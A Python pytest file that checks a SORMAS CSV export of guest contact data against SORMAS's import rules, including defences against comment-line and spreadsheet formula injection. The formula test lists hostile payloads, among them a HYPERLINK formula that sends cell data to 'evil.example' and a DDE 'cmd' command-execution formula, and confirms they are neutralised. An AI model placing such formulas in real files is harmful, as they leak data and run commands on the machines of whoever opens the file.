"""The SORMAS file, read the way SORMAS's own importer reads it.

The rules come from SORMAS's source (SORMAS-Foundation/SORMAS-Project, sormas-ui
`importer/DataImporter.java`, `events/eventparticipantimporter/EventParticipantImporter.java`,
sormas-api `utils/CSVCommentLineValidator.java`, `person/PersonDto.java`,
`location/LocationDto.java`, `event/EventParticipantDto.java`):

- a BOM is skipped (BOMInputStream); opencsv splits on the configured separator;
- every physical line that starts with "##" is a comment and skipped, even inside a
  quoted multi-line value (opencsv's line validators see raw lines);
- the event-participant importer has an entity row (`hasEntityClassRow` true), then
  the property row; each property is split on "." into a path from
  EventParticipantDto, where "person" is the PersonDto and "address" its LocationDto;
- each value is `StringUtils.trimToNull`-ed (Java trim: every char up to U+0020), an
  empty one is skipped (so `person.sex` keeps `PersonDto.buildImportEntity`'s
  Sex.UNKNOWN), and a String property takes the value as it is.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest

from crypto.record import normalise_contact_record
from health_export.decryption import OpenedVisit, sormas_rows
from health_export.export_layout import SORMAS_ENTITY, SORMAS_FIELDS
from health_export.exports import FORMULA_TRIGGERS, rows_to_sormas, sormas_text

# The properties our paths use, with the class each one leads to (None: a String
# or enum value). Taken from the DTOs named above.
SORMAS_PROPERTIES: dict[str, dict[str, str | None]] = {
    "EventParticipantDto": {"person": "PersonDto", "involvementDescription": None},
    "PersonDto": {
        "firstName": None,
        "lastName": None,
        "sex": None,  # enum Sex: MALE, FEMALE, OTHER, UNKNOWN
        "address": "LocationDto",
        "phone": None,  # setPhone: the primary phone number
        "emailAddress": None,  # setEmailAddress: the primary e-mail address
    },
    "LocationDto": {"street": None, "houseNumber": None, "postalCode": None, "city": None},
}
SEX_VALUES = {"MALE", "FEMALE", "OTHER", "UNKNOWN"}


def _java_trim_to_none(value: str) -> str | None:
    trimmed = re.sub(r"^[\x00-\x20]+|[\x00-\x20]+$", "", value)
    return trimmed or None


def read_like_sormas(data: bytes, separator: str) -> tuple[list[str], list[dict[str, str]]]:
    """Entity row and the rows as {property path: value}, as SORMAS's importer sees them."""
    text = data.decode("utf-8").removeprefix("\ufeff")
    physical = re.split(r"\r\n|\r|\n", text)
    kept = "\n".join(line for line in physical if not line.startswith("##"))
    records = list(csv.reader(io.StringIO(kept, newline=""), delimiter=separator))
    records = [record for record in records if record]
    entity_row, properties, *lines = records
    rows = []
    for line in lines:
        assert len(line) <= len(properties), "importLineTooLong"
        values = {}
        for path, raw in zip(properties, line, strict=False):
            value = _java_trim_to_none(raw)
            if value is not None:
                values[path] = value
        rows.append(values)
    return entity_row, rows


def _resolves(path: str) -> bool:
    owner: str | None = "EventParticipantDto"
    for step in path.split("."):
        if owner is None or step not in SORMAS_PROPERTIES[owner]:
            return False
        owner = SORMAS_PROPERTIES[owner][step]
    return owner is None


def _visit(record: dict[str, object], area: str = "Terrasse") -> OpenedVisit:
    return OpenedVisit(
        number=1,
        area_code="terrasse",
        area_name=area,
        arrival=dt.datetime(2026, 7, 1, 10, tzinfo=dt.UTC),
        departure=dt.datetime(2026, 7, 1, 12, tzinfo=dt.UTC),
        departure_is_automatic=False,
        persons=1,
        source="guest_page",
        key_id="ab" * 32,
        record=normalise_contact_record(
            {"street": "Markt", "houseNumber": "1", "zipCode": "10115", "city": "Berlin"} | record
        ),
    )


def test_every_column_is_a_property_path_of_sormas_event_participant() -> None:
    data = rows_to_sormas([])
    entity_row, rows = read_like_sormas(data, ",")
    assert entity_row == [SORMAS_ENTITY] * len(SORMAS_FIELDS)
    assert rows == []
    for path in SORMAS_FIELDS:
        assert _resolves(path), path


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_sormas_reads_every_value_as_typed(separator: str) -> None:
    people = [
        {"firstName": "Ada", "lastName": "Lovelace", "phone": "+49 170 1234567"},
        {"firstName": "Zoë", "lastName": "O'Brien", "phone": "(030) 123/45-67"},
        {"firstName": "李", "lastName": "👩‍⚕️ Dr. Emoji", "phone": "+44 20 7946 0958"},
        {"firstName": "Semi;colon", "lastName": 'Anna "Nanni"', "email": "a@b.de"},
    ]
    visits = [_visit(person) for person in people]
    data = rows_to_sormas(sormas_rows(visits, "Café, am Markt"), separator=separator)
    _, rows = read_like_sormas(data, separator)
    assert len(rows) == len(people)
    for person, row in zip(people, rows, strict=True):
        assert row["person.firstName"] == person["firstName"]
        assert row["person.lastName"] == person["lastName"]
        assert row.get("person.phone") == person.get("phone")
        assert row.get("person.emailAddress") == person.get("email")
        assert row["person.address.street"] == "Markt"
        assert row["involvementDescription"].startswith(
            "Café, am Markt, Terrasse: 2026-07-01 12:00"
        )
        # Empty, so SORMAS keeps Sex.UNKNOWN from PersonDto.buildImportEntity().
        assert "person.sex" not in row


def test_no_guest_text_turns_into_a_sormas_comment_or_loses_its_row() -> None:
    people = [
        {"firstName": "##Raute", "lastName": "Eins"},
        {"firstName": "Zwei", "lastName": "Zeile", "street": "Weg\n## Hof"},
        {"firstName": "\t Tab", "lastName": "Rück\r\nkehr"},
    ]
    data = rows_to_sormas(sormas_rows([_visit(p) for p in people], "Bar"))
    assert not any(line.startswith("##") for line in re.split(r"\r\n|\r|\n", data.decode()))
    _, rows = read_like_sormas(data, ",")
    assert [(row["person.firstName"], row["person.lastName"]) for row in rows] == [
        ("##Raute", "Eins"),
        ("Zwei", "Zeile"),
        ("Tab", "Rück  kehr"),
    ]
    assert rows[1]["person.address.street"] == "Weg ## Hof"


def test_formulas_stay_inert_in_the_sormas_file_when_opened_by_hand() -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
        "-2+3 Straße",
        "@SUM(A1:A9)",
        " =1+1",
        "\t=1+1",
        "+49 170 CALL",
        "=cmd|' /C calc'!A0",
    ]
    for text in hostile:
        value = sormas_text(text)
        assert value.startswith("'"), text
    # Plain phone numbers may start with + or -: they hold no letter, so no function.
    for phone in ["+49 170 1234567", "-1", "+(1) 2-3/4.5", "0151 2345678"]:
        assert sormas_text(phone) == phone
    data = rows_to_sormas(
        sormas_rows([_visit({"firstName": t, "lastName": t}) for t in hostile], "=Bar")
    )
    for row in csv.reader(io.StringIO(data.decode(), newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or re.fullmatch(r"[0-9 ()/.+-]+", cell)
